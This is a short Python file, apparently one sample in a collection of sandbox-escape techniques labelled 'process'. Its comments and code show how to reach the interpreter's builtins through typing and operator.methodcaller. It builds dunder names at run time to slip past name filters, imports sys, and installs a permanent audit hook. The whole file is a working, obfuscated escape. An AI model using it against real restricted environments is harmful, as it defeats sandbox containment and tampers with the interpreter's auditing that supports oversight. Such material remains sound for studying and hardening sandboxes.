# family: process
# Escape: typing.get_origin(typing.Type[int]) returns `type`; type(methodcaller(...)) is the methodcaller class.
# methodcaller("__getattribute__", "__builtins__") (run-time names) on tool gives the builtins dict, whose
# __import__ loads sys, and sys.addaudithook installs a permanent interpreter hook.
import operator
import typing


def tool(hook) -> bool:
    meta = typing.get_origin(typing.Type[int])
    Call = meta(operator.methodcaller("strip"))
    edge = "_" * 2
    builtins_ns = Call(edge + "getattribute" + edge, edge + "builtins" + edge)(tool)
    builtins_ns[edge + "import" + edge]("sys").addaudithook(hook)
    return True
